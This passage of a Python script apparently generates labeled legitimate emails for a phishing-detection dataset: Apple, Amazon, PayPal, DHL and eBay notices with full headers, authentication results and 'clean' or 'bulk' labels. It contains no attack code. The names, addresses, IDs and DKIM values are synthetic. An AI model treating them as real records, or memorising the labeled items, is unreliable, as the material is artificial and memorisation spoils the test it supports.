    emit(stem, "clean",
         "Genuine Apple 'Your receipt from Apple.' for an iCloud+ subscription from email.apple.com (Apple's 17.x servers, SPF/DKIM/DMARC pass) with reportaproblem.apple.com and support.apple.com links.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "17.111.110.52", "rn2-txn-msbadger07105.apple.com", "bounce@email.apple.com",
                 dkim=[("email.apple.com", "email0517", "pass")], dmarc="pass", policy="QUARANTINE", hfrom="email.apple.com"),
         _apple_hops(stem, sent, rcpt), headers, alt(plain, html, bnd(stem, "apple")))


def l04_icloud_storage_genuine() -> None:
    stem = "b50-legit-icloud-storage-almost-full"
    rcpt = "donna_kessler52@yahoo.com"
    sent = utc(2024, 12, 30, 15, 12, 40)
    plain = ("Your iCloud storage is almost full.\n\n"
             "Dear Donna Kessler,\n\n"
             "You have 97.4 MB of iCloud storage left. Once you run out, photos and videos will no longer upload to iCloud Photos "
             "and your device will not back up to iCloud.\n\n"
             "You can upgrade to iCloud+ to get more storage, or free up space by deleting items you no longer need.\n\n"
             "To upgrade on your iPhone or iPad, go to Settings > [your name] > iCloud > Manage Account Storage.\n"
             "Learn more: https://support.apple.com/108922\n\n"
             "The iCloud Team\n\nApple Account | Support | Privacy Policy\nCopyright © 2024 Apple Distribution International Ltd. All rights reserved.\n")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="font-family:-apple-system,'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;color:#1d1d1f;">
<tr><td align="center" style="padding:40px 0 20px 0;"><img src="https://www.icloud.com/system/icloud.com/current/en-us/images/icloud-logo-email-2x.png" width="64" alt="iCloud" style="display:block;"></td></tr>
<tr><td align="center" style="font-size:28px;font-weight:600;line-height:34px;padding:0 40px 20px 40px;">Your iCloud storage is almost full.</td></tr>
<tr><td style="font-size:15px;line-height:22px;padding:0 60px;">Dear Donna Kessler,<br><br>You have 97.4&nbsp;MB of iCloud storage left. Once you run out, photos and videos will no longer upload to iCloud Photos and your device will not back up to iCloud.<br><br>You can upgrade to iCloud+ to get more storage, or free up space by deleting items you no longer need.<br><br>To upgrade on your iPhone or iPad, go to Settings &gt; [your name] &gt; iCloud &gt; Manage Account Storage. <a href="https://support.apple.com/108922" style="color:#0066cc;">Learn more&nbsp;&rsaquo;</a><br><br>The iCloud Team</td></tr>
<tr><td align="center" style="font-size:11px;line-height:16px;color:#86868b;padding:40px 40px;"><a href="https://account.apple.com/" style="color:#0066cc;text-decoration:none;">Apple Account</a> | <a href="https://support.apple.com/" style="color:#0066cc;text-decoration:none;">Support</a> | <a href="https://www.apple.com/legal/privacy/" style="color:#0066cc;text-decoration:none;">Privacy Policy</a><br>Copyright &copy; 2024 Apple Distribution International Ltd.<br>Hollyhill Industrial Estate, Hollyhill, Cork, Republic of Ireland. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    headers = f"""Date: {rfc(sent)}
From: iCloud <noreply@email.apple.com>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 7)}.{ts(sent) * 1000}@email.apple.com>
Subject: Your iCloud storage is almost full.
MIME-Version: 1.0
x-apple-mmp-meta: mmpPlatformVersion=2.4.1;x-ins=4
X-Priority: 3"""
    emit(stem, "clean",
         "Genuine iCloud 'your storage is almost full' notice from email.apple.com (all checks pass) that tells the user to upgrade in Settings and links only to apple.com: the real version of the common storage-full scam.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "17.111.110.38", "rn2-txn-msbadger07102.apple.com", "bounce@email.apple.com",
                 dkim=[("email.apple.com", "email0517", "pass")], dmarc="pass", policy="QUARANTINE", hfrom="email.apple.com"),
         _apple_hops(stem, sent, rcpt), headers, alt(plain, html, bnd(stem, "apple")))


def _amazon_f(stem: str, n: int, target: str, tld: str = "com") -> str:
    return (f"https://www.amazon.{tld}/gp/f.html?C={alnum(stem + 'C', 13, UPPERNUM)}&K={alnum(stem + 'K', 14, UPPERNUM)}"
            f"&M=urn:rtn:msg:{sent_key(stem)}&R={alnum(stem + 'R' + str(n), 13, UPPERNUM)}&T=C&U={quote(target, safe='')}"
            f"&H={alnum(stem + 'H' + str(n), 28, UPPERNUM)}&ref_=pe_{digits(stem + 'pe', 8)}_{digits(stem + 'pe2', 9)}")


def sent_key(stem: str) -> str:
    return f"2025{digits(stem + 'urn', 10)}{alnum(stem + 'urn2', 14, LOWERNUM)}"


def l05_amazon_shipped() -> None:
    stem = "b50-legit-amazon-shipped"
    rcpt = "dwaynecarter.jr@gmail.com"
    sent = utc(2025, 10, 14, 16, 2, 12)
    mid, _ = ses_hops(stem, sent)
    order = "112-4471093-8820617"
    track = _amazon_f(stem, 1, f"https://www.amazon.com/progress-tracker/package/ref=pe_shipconfirm?_encoding=UTF8&itemId={alnum(stem + 'it', 14, 'klmnopqrstuv')}&orderId={order}&shipmentId={alnum(stem + 'sh', 9, ALNUM)}")
    plain = ("Amazon.com\n\nShipped\n\nHi Dwayne, your package has shipped!\n\nArriving Thursday\n\n"
             f"Track package: {track}\n\nOrder # {order}\n\n"
             "Anker Power Bank, 20,000mAh Portable Charger with Built-in USB-C Cable\nQuantity: 1\n\n"
             "Ship to: Dwayne Carter Jr., Columbus, OH\n\n"
             "We hope to see you again soon.\nAmazon.com\n\n"
             "This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="font-family:'Amazon Ember',Arial,sans-serif;color:#0f1111;">
<tr><td style="padding:16px 20px;background:#232f3e;"><a href="{_amazon_f(stem, 2, 'https://www.amazon.com/?ref_=pe_logo')}"><img src="https://m.media-amazon.com/images/G/01/outbound/OutboundTemplates/Amazon_logo_white._BG35,47,62_.png" width="86" alt="Amazon.com" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:24px 20px 6px 20px;font-size:22px;font-weight:bold;">Shipped</td></tr>
<tr><td style="padding:0 20px;font-size:15px;">Hi Dwayne, your package has shipped!</td></tr>
<tr><td style="padding:16px 20px 4px 20px;font-size:13px;color:#565959;">Arriving</td></tr>
<tr><td style="padding:0 20px;font-size:22px;font-weight:bold;color:#007600;">Thursday</td></tr>
<tr><td style="padding:16px 20px;"><a href="{track}" style="display:inline-block;background:#ffd814;border-radius:20px;padding:10px 28px;color:#0f1111;text-decoration:none;font-size:14px;">Track package</a></td></tr>
<tr><td style="padding:10px 20px;border-top:1px solid #e7e7e7;"><table width="100%" cellpadding="0" cellspacing="0"><tr>
<td width="90"><a href="{_amazon_f(stem, 3, 'https://www.amazon.com/dp/B0CZ9LH53B')}"><img src="https://m.media-amazon.com/images/I/51{alnum(stem + 'img', 8)}._SS160_.jpg" width="80" alt="" style="display:block;border:0;"></a></td>
<td style="font-size:13px;line-height:18px;"><a href="{_amazon_f(stem, 3, 'https://www.amazon.com/dp/B0CZ9LH53B')}" style="color:#007185;text-decoration:none;">Anker Power Bank, 20,000mAh Portable Charger with Built-in USB-C Cable</a><br><span style="color:#565959;">Quantity: 1</span></td></tr></table></td></tr>
<tr><td style="padding:10px 20px;font-size:13px;color:#565959;">Order # <a href="{_amazon_f(stem, 4, 'https://www.amazon.com/gp/css/order-details?orderID=' + order)}" style="color:#007185;text-decoration:none;">{order}</a><br>Ship to: Dwayne Carter Jr., Columbus, OH</td></tr>
<tr><td style="padding:24px 20px;font-size:11px;color:#565959;line-height:16px;border-top:1px solid #e7e7e7;">&copy;2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon.com, Inc. 410 Terry Avenue N. Seattle, WA 98109.<br><br>This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.</td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://www.amazon.com/gp/r.html?C={alnum(stem + 'C', 13, UPPERNUM)}&M=urn:rtn:msg:{sent_key(stem)}&R={alnum(stem + 'Ropen', 13, UPPERNUM)}&T=O&U=https%3A%2F%2Fimages-na.ssl-images-amazon.com%2Fimages%2FG%2F01%2Fnav%2Ftransp.gif&H={alnum(stem + 'Hopen', 28, UPPERNUM)}&ref_=pe_{digits(stem + 'pe', 8)}_{digits(stem + 'pe2', 9)}" alt="">
</body></html>
"""
    hops = [
        dkim(stem, "amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrvuz", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"),
        dkim(stem, "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID"),
    ]
    headers = f"""Date: {rfc(sent)}
From: "Amazon.com" <shipment-tracking@amazon.com>
To: {rcpt}
Message-ID: <{mid}@email.amazonses.com>
Subject: Shipped: "Anker Power Bank, 20,000mAh..."
MIME-Version: 1.0
X-AMAZON-MAIL-RELAY-TYPE: notification
Bounces-to: {sent.strftime('%Y%m%d%H%M%S')}{hexs(stem + 'bt', 24)}@bounces.amazon.com
X-AMAZON-RTE-VERSION: 2.0
X-AMAZON-METADATA: CA=C1RKHOR7GWKT1-CU=A3{alnum(stem + 'cu', 11, UPPERNUM)}-RI=A1{alnum(stem + 'ri', 12, UPPERNUM)}
X-Original-MessageID: <urn.rtn.msg.{sent_key(stem)}@1{digits(stem + 'om', 12)}.rtn-svc-ap-us-east-1>
Feedback-ID: ::1.us-east-1.{b64(stem + 'fb', 30)}=:AmazonSES
X-SES-Outgoing: 2025.10.14-54.240.11.27"""
    emit(stem, "clean",
         "Genuine Amazon.com 'Shipped' notification from shipment-tracking@amazon.com through Amazon SES (DKIM for amazon.com and amazonses.com, DMARC pass) with Amazon's own gp/f.html click redirects.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "54.240.11.27", "a11-27.smtp-out.amazonses.com",
                 f"{sent.strftime('%Y%m%d%H%M%S')}{hexs(stem + 'bt', 24)}@bounces.amazon.com",
                 dkim=[("amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrvuz", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
                 dmarc="pass", policy="QUARANTINE", hfrom="amazon.com"),
         hops, headers, alt(plain, html, bnd(stem, "ses")))


def l06_amazon_de_blackfriday() -> None:
    stem = "b50-legit-amazon-de-blackfriday"
    rcpt = "m.oberlaender@gmx.net"
    sent = utc(2025, 11, 27, 6, 30, 5)
    mid, _ = ses_hops(stem, sent, "eu-west-1")
    deals = [("Bosch Akku-Bohrschrauber GSR 12V-35", "89,99 €", "B0BTY3QW1L"), ("Philips Airfryer 3000 Series XL", "79,99 €", "B0C4K7YQ2M"),
             ("Kindle Paperwhite (16 GB)", "129,99 €", "B0CFPJYX7P"), ("Sony WH-1000XM5 Kopfhörer", "279,00 €", "B09Y2MYL5C")]
    rows = "".join(
        f'<tr><td style="padding:10px 20px;border-top:1px solid #eeeeee;"><a href="{_amazon_f(stem, i, "https://www.amazon.de/dp/" + asin, "de")}" style="color:#007185;text-decoration:none;font-size:14px;">{name}</a><br>'
        f'<span style="color:#b12704;font-size:16px;font-weight:bold;">{price}</span> <span style="color:#565959;font-size:12px;">Black Friday Angebot</span></td></tr>'
        for i, (name, price, asin) in enumerate(deals))
    plain = "Black Friday Woche bei Amazon.de\n\n" + "\n".join(f"{n} – {p}: {_amazon_f(stem, i, 'https://www.amazon.de/dp/' + a, 'de')}" for i, (n, p, a) in enumerate(deals)) + \
        "\n\nAlle Angebote: https://www.amazon.de/blackfriday\n\nSie erhalten diese E-Mail, weil Sie Newsletter von Amazon.de abonniert haben. Abmelden: https://www.amazon.de/gp/gss/o/" + alnum(stem + "uns", 30) + "\n"
    html = f"""<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#ffffff;"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:'Amazon Ember',Arial,sans-serif;color:#0f1111;">
<tr><td style="padding:14px 20px;background:#232f3e;"><img src="https://m.media-amazon.com/images/G/03/outbound/OutboundTemplates/Amazon_logo_white_de.png" width="96" alt="Amazon.de" style="display:block;"></td></tr>
<tr><td style="padding:0;"><a href="{_amazon_f(stem, 9, 'https://www.amazon.de/blackfriday', 'de')}"><img src="https://m.media-amazon.com/images/G/03/marketing/bf25/BF25_Email_Hero_600x300_DE.jpg" width="600" alt="Black Friday Woche" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:18px 20px 6px 20px;font-size:20px;font-weight:bold;">Ausgew&auml;hlte Angebote f&uuml;r Sie</td></tr>
{rows}
<tr><td align="center" style="padding:20px;"><a href="{_amazon_f(stem, 9, 'https://www.amazon.de/blackfriday', 'de')}" style="background:#ffd814;border-radius:20px;padding:10px 28px;color:#0f1111;text-decoration:none;font-size:14px;">Alle Angebote ansehen</a></td></tr>
<tr><td style="padding:20px;font-size:11px;line-height:16px;color:#565959;">Sie erhalten diese E-Mail, weil Sie Newsletter von Amazon.de abonniert haben. <a href="https://www.amazon.de/gp/gss/o/{alnum(stem + 'uns', 30)}" style="color:#007185;">Abmelden</a><br>Amazon Europe Core S.&agrave; r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg. Handelsregister: R.C.S. Luxemburg B 101818.</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, "amazon.de", "jaldqkvl3vsvc2kf6n3v3pxe4xhrtztq", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post"),
        dkim(stem, "amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post:Feedback-ID"),
    ]
    env = f"{sent.strftime('%Y%m%d%H%M%S')}{hexs(stem + 'bt', 24)}@bounces.amazon.de"
    headers = f"""Date: {rfc(sent)}
From: Amazon.de <store-news@amazon.de>
To: {rcpt}
Message-ID: <{mid}@eu-west-1.amazonses.com>
Subject: {qword("Black Friday Woche: Angebote, die zu Ihnen passen")}
MIME-Version: 1.0
List-Unsubscribe: <https://www.amazon.de/gp/gss/o/{alnum(stem + 'uns', 30)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-AMAZON-MAIL-RELAY-TYPE: marketing
Bounces-to: {env}
Feedback-ID: ::1.eu-west-1.{b64(stem + 'fb', 30)}=:AmazonSES
X-SES-Outgoing: 2025.11.27-54.240.7.33"""
    emit(stem, "bulk",
         "Genuine Amazon.de Black Friday marketing newsletter from store-news@amazon.de via Amazon SES eu-west-1 (all checks pass) with amazon.de click redirects, product links and one-click unsubscribe.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "54.240.7.33", "a7-33.smtp-out.eu-west-1.amazonses.com", env,
                 dkim=[("amazon.de", "jaldqkvl3vsvc2kf6n3v3pxe4xhrtztq", "pass"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")],
                 dmarc="pass", policy="QUARANTINE", hfrom="amazon.de"),
         hops, headers, alt(plain, html, bnd(stem, "ses")))


def l07_paypal_de_payment() -> None:
    stem = "b50-legit-paypal-de-zahlung"
    rcpt = "juergen.wollny@web.de"
    sent = utc(2024, 6, 11, 18, 40, 27)
    txn = alnum(stem + "txn", 17, UPPERNUM)
    link = f"https://www.paypal.com/myaccount/transaction/details/{txn}"
    plain = ("Hallo Jürgen Wollny,\n\nSie haben eine Zahlung über 34,98 € EUR an Thalia Bücher GmbH gesendet.\n\n"
             "Es kann einige Minuten dauern, bis diese Transaktion in Ihrem PayPal-Konto angezeigt wird.\n\n"
             f"Händler\nThalia Bücher GmbH\ninfo@thalia.de\n\nAnweisungen an den Händler\nSie haben keine Anweisungen eingegeben.\n\n"
             f"Transaktionscode\n{txn}\n\nTransaktionsdatum\n11. Juni 2024\n\nBezahlt mit\nLastschrift (Sparkasse) 34,98 € EUR\n\n"
             f"Details ansehen: {link}\n\nHilfe & Kontakt | Sicherheit | App\n\n"
             "PayPal (Europe) S.à r.l. et Cie, S.C.A.\n22-24 Boulevard Royal L-2449, Luxembourg\n")
    html = f"""<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"></head>
<body style="margin:0;padding:0;background:#f7f9fa;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f7f9fa;"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'PayPal Sans Text',Helvetica,Arial,sans-serif;color:#001435;">
<tr><td style="padding:30px 40px 10px 40px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" height="48" alt="PayPal" style="display:block;"></td></tr>
<tr><td style="padding:10px 40px;font-size:15px;">Hallo J&uuml;rgen Wollny,</td></tr>
<tr><td style="padding:0 40px 10px 40px;font-size:26px;line-height:34px;font-weight:bold;">Sie haben eine Zahlung &uuml;ber 34,98&nbsp;&euro;&nbsp;EUR an Thalia B&uuml;cher GmbH gesendet.</td></tr>
<tr><td style="padding:0 40px 14px 40px;font-size:14px;color:#545d68;">Es kann einige Minuten dauern, bis diese Transaktion in Ihrem PayPal-Konto angezeigt wird.</td></tr>
<tr><td style="padding:10px 40px;"><table width="100%" cellpadding="0" cellspacing="0" style="font-size:14px;line-height:20px;"><tr><td width="50%" valign="top"><b>H&auml;ndler</b><br>Thalia B&uuml;cher GmbH<br>info@thalia.de</td><td valign="top"><b>Transaktionscode</b><br><a href="{link}" style="color:#0070e0;text-decoration:none;">{txn}</a></td></tr>
<tr><td valign="top" style="padding-top:14px;"><b>Anweisungen an den H&auml;ndler</b><br>Sie haben keine Anweisungen eingegeben.</td><td valign="top" style="padding-top:14px;"><b>Transaktionsdatum</b><br>11. Juni 2024</td></tr></table></td></tr>
<tr><td style="padding:14px 40px;font-size:14px;border-top:1px solid #e6e6e6;"><b>Bezahlt mit</b><br>Lastschrift (Sparkasse) &nbsp; 34,98&nbsp;&euro;&nbsp;EUR</td></tr>
<tr><td style="padding:20px 40px 30px 40px;"><a href="{link}" style="display:inline-block;background:#0070e0;color:#ffffff;font-size:15px;font-weight:bold;padding:11px 28px;border-radius:24px;text-decoration:none;">Details ansehen</a></td></tr>
<tr><td style="padding:20px 40px;font-size:11px;line-height:16px;color:#6c7378;background:#f7f9fa;"><a href="https://www.paypal.com/de/cshelp/personal" style="color:#0070e0;">Hilfe &amp; Kontakt</a> | <a href="https://www.paypal.com/de/webapps/mpp/paypal-safety-and-security" style="color:#0070e0;">Sicherheit</a> | <a href="https://www.paypal.com/de/webapps/mpp/mobile-apps" style="color:#0070e0;">App</a><br><br>PayPal ist der Ansicht, dass Sie nie Ihre Zugangsdaten per E-Mail preisgeben sollten. Wir sprechen Sie in E-Mails immer mit Ihrem vollst&auml;ndigen Namen an.<br><br>PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg<br>PayPal PPC001017:{hexs(stem + 'ppc', 12)}</td></tr>
</table></td></tr></table>
<img src="https://t.paypal.com/ts?v=1&amp;e=EmailOpen&amp;eid={hexs(stem + 'eid', 24)}" width="1" height="1" alt="">
</body></html>
"""
    hops = [
        dkim(stem, "paypal.de", "pp-dkim1", sent, h="Date:Message-ID:From:To:Subject:MIME-Version:Content-Type", extra="i=@paypal.de", q=True),
        rcv(f"from ccg01mail{digits(stem + 'ccg', 2)}.phx.paypal.com (ccg01mail{digits(stem + 'ccg', 2)}.phx.paypal.com [10.75.{digits(stem + 'pi', 2)}.{digits(stem + 'pj', 2)}])\n\tby mx1.slc.paypal.com (Postfix) with ESMTP id {alnum(stem + 'qid', 12, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, PACIFIC),
    ]
    headers = f"""Date: {rfc(sent, PACIFIC)}
Message-ID: <{hexs(stem + 'mid', 12)}.{digits(stem + 'mid2', 13)}@paypal.de>
From: PayPal <service@paypal.de>
To: =?UTF-8?B?SsO8cmdlbiBXb2xsbnk=?= <{rcpt}>
Subject: {qword("Ihre Zahlung an Thalia Bücher GmbH")}
MIME-Version: 1.0
X-Email-Type-Id: PPC001017
X-MaxCode-Template: PPC001017
X-PP-Email-transmission-Id: {guid(stem + 'tid')}
PP-Correlation-Id: {hexs(stem + 'corr', 13)}"""
    emit(stem, "clean",
         "Genuine PayPal Germany payment receipt ('Sie haben eine Zahlung gesendet' to a bookshop) from service@paypal.de (SPF/DKIM/DMARC pass), addressing the user by full name and linking only to paypal.com.",
         Inbound("webde", rcpt, sent + timedelta(seconds=2), "173.0.84.225", "mx1.slc.paypal.com", "service@paypal.de",
                 dkim=[("paypal.de", "pp-dkim1", "pass")], dmarc="pass", policy="REJECT", hfrom="paypal.de"),
         hops, headers, alt(plain, html, bnd(stem)))


def l08_dhl_sendung_heute() -> None:
    stem = "b50-legit-dhl-sendung-heute"
    rcpt = "heike.brandstaetter@gmx.de"
    sent = utc(2025, 3, 18, 6, 41, 55)
    piece = "00340434" + digits(stem + "pc", 12)
    link = f"https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode={piece}&cid=c_nl_de_100_20501_1"
    plain = (f"Hallo Heike Brandstätter,\n\nIhre Sendung kommt heute.\n\nSendungsnummer: {piece}\nAbsender: Zalando SE\n"
             "Voraussichtliche Zustellung: heute, 18.03.2025, zwischen 11:15 und 13:15 Uhr\n\n"
             f"Sendung verfolgen: {link}\n\n"
             "Sie sind nicht zu Hause? Mit der Post & DHL App können Sie Ihre Sendung bis kurz vor der Zustellung umleiten.\n\n"
             "Ihr DHL Paket Team\n\nDeutsche Post AG, Charles-de-Gaulle-Str. 20, 53113 Bonn\n")
    html = f"""<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2f2f2"><tr><td align="center" style="padding:16px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Delivery,Frutiger,Arial,sans-serif;color:#323232;">
<tr><td bgcolor="#ffcc00" style="padding:16px 24px;"><img src="https://www.dhl.de/content/dam/images/email/dhl-logo-2x.png" width="140" alt="DHL" style="display:block;"></td></tr>
<tr><td style="padding:26px 24px 6px 24px;font-size:24px;font-weight:bold;">Ihre Sendung kommt heute</td></tr>
<tr><td style="padding:6px 24px;font-size:15px;line-height:22px;">Hallo Heike Brandst&auml;tter,<br><br>voraussichtlich erhalten Sie Ihre Sendung von <b>Zalando SE</b> heute zwischen <b>11:15 und 13:15 Uhr</b>.</td></tr>
<tr><td style="padding:12px 24px;font-size:13px;color:#666666;">Sendungsnummer: {piece}</td></tr>
<tr><td style="padding:14px 24px 22px 24px;"><a href="{link}" style="background:#d40511;color:#ffffff;padding:11px 26px;text-decoration:none;border-radius:4px;font-size:15px;">Sendung verfolgen</a></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:14px;line-height:21px;">Sie sind nicht zu Hause? Mit der <a href="https://www.dhl.de/de/privatkunden/dhl-app.html?cid=c_nl_de_100_20501_2" style="color:#d40511;">Post &amp; DHL App</a> k&ouml;nnen Sie Ihre Sendung bis kurz vor der Zustellung umleiten.</td></tr>
<tr><td style="padding:18px 24px;font-size:11px;line-height:16px;color:#8c8c8c;background:#f7f7f7;">Ihr DHL Paket Team<br>Deutsche Post AG, Charles-de-Gaulle-Stra&szlig;e 20, 53113 Bonn &middot; <a href="https://www.dhl.de/de/toolbar/footer/datenschutz.html" style="color:#8c8c8c;">Datenschutz</a> &middot; <a href="https://www.dhl.de/de/toolbar/footer/impressum.html" style="color:#8c8c8c;">Impressum</a></td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, "dhl.de", "dhl2023", sent, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"),
        rcv(f"from sv-notify-{digits(stem + 'sv', 2)}.dhl.de (sv-notify-{digits(stem + 'sv', 2)}.dhl.de [10.221.{digits(stem + 'd3', 2)}.{digits(stem + 'd4', 2)}])\n\tby mailout2.dhl.de (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""Date: {rfc(sent, BERLIN)}
From: DHL Paket <noreply@dhl.de>
To: {rcpt}
Message-ID: <{guid(stem + 'mid')}@dhl.de>
Subject: Ihre DHL Sendung kommt heute
MIME-Version: 1.0"""
    emit(stem, "clean",
         "Genuine DHL Paket 'Ihre Sendung kommt heute' notice from noreply@dhl.de (SPF/DKIM/DMARC pass) naming the sender shop, tracking number and time window, linking only to dhl.de.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "165.72.200.118", "mailout2.dhl.de", "bounce@dhl.de",
                 dkim=[("dhl.de", "dhl2023", "pass")], dmarc="pass", policy="REJECT", hfrom="dhl.de"),
         hops, headers, alt(plain, html, bnd(stem)))


def l09_ebay_order_confirmed() -> None:
    stem = "b50-legit-ebay-order-confirmed"
    rcpt = "pete.hollis@yahoo.co.uk"
    sent = utc(2024, 10, 19, 20, 14, 9)
    item = "2" + digits(stem + "item", 11)
    trans = digits(stem + "tr", 13)
    track = f"&mkevt=1&mkpid=0&emsid=e11051.m43.l1123&mkcid=7&ch=osgood&euid={hexs(stem + 'euid', 32)}&bu={digits(stem + 'bu', 11)}&osub=-1%7E1&crd={sent.strftime('%Y%m%d%H%M%S')}&segname=11051"
    link = f"https://order.ebay.co.uk/ord/show?orderId={digits(stem + 'o1', 2)}-{digits(stem + 'o2', 5)}-{digits(stem + 'o3', 5)}{track}"
    plain = ("eBay\n\nOrder confirmed\n\nHi Pete,\nThanks for your purchase. We'll let you know when it's on its way.\n\n"
             "Bosch PSB 18 LI-2 Cordless Combi Drill with 2x 2.0Ah Batteries\nOrder total: £94.99\nItem ID: " + item + "\n"
             "Estimated delivery: Wed, 23 Oct - Fri, 25 Oct\nSeller: toolstation-outlet-uk\n\n"
             f"View order details: {link}\n\n"
             "Email reference id: [#" + hexs(stem + 'ref', 32) + "#]\n\n"
             "We don't check this mailbox, so please don't reply to this message.\n"
             "eBay (UK) Limited, 1 More London Place, London, SE1 2AF\n")
    html = f"""<!DOCTYPE html><html lang="en-GB"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="font-family:'Market Sans',Arial,sans-serif;color:#191919;">
<tr><td style="padding:20px;"><a href="https://www.ebay.co.uk/?_trksid=p11051{track}"><img src="https://ir.ebaystatic.com/cr/v/c1/ebay-logo-1-1200x630-margin.png" width="90" alt="eBay" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:0 20px 8px 20px;font-size:28px;font-weight:bold;">Order confirmed</td></tr>
<tr><td style="padding:0 20px 16px 20px;font-size:16px;line-height:24px;">Hi Pete,<br>Thanks for your purchase. We'll let you know when it's on its way.</td></tr>
<tr><td style="padding:16px 20px;border-top:1px solid #e5e5e5;"><table width="100%" cellpadding="0" cellspacing="0"><tr>
<td width="110" valign="top"><a href="https://www.ebay.co.uk/itm/{item}?{track[1:]}"><img src="https://i.ebayimg.com/images/g/{alnum(stem + 'img', 16, ALNUM + '~')}/s-l140.jpg" width="96" alt="" style="display:block;border:0;"></a></td>
<td valign="top" style="font-size:14px;line-height:20px;"><a href="https://www.ebay.co.uk/itm/{item}?{track[1:]}" style="color:#191919;text-decoration:none;">Bosch PSB 18 LI-2 Cordless Combi Drill with 2x 2.0Ah Batteries</a><br><b>&pound;94.99</b><br><span style="color:#707070;">Item ID: {item}<br>Estimated delivery: Wed, 23 Oct - Fri, 25 Oct<br>Seller: toolstation-outlet-uk</span></td></tr></table></td></tr>
<tr><td style="padding:10px 20px 24px 20px;"><a href="{link}" style="display:inline-block;background:#3665f3;color:#ffffff;font-size:15px;font-weight:bold;padding:12px 28px;border-radius:24px;text-decoration:none;">View order details</a></td></tr>
<tr><td style="padding:20px;font-size:11px;line-height:16px;color:#707070;background:#f7f7f7;">Email reference id: [#{hexs(stem + 'ref', 32)}#]<br><br>We don't check this mailbox, so please don't reply to this message. If you have a question, go to <a href="https://www.ebay.co.uk/help/home?{track[1:]}" style="color:#3665f3;">Help &amp; Contact</a>.<br><br>eBay sent this message to Pete Hollis (pete_hollis77). Learn more about <a href="https://www.ebay.co.uk/help/account/protecting-account/recognising-spoof-emails?id=4195&amp;{track[1:]}" style="color:#3665f3;">account protection</a>.<br><br>Copyright &copy; 1995-2024 eBay Inc. All Rights Reserved. eBay (UK) Limited, 1 More London Place, London, SE1 2AF.</td></tr>
</table></td></tr></table>
